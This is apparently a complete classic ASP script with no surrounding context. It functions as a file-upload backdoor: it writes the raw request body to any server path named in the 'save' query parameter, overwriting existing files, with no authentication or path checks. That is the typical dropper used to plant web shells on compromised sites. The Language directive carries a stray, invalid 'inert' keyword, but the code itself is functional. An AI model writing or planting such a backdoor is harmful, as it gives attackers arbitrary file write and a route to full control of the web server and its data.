<%@ Language=VBScript inert %>
<%
Dim st
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write Request.BinaryRead(Request.TotalBytes)
st.SaveToFile Server.MapPath(Request.QueryString("save")), 2
st.Close
Response.Write "saved"
%>
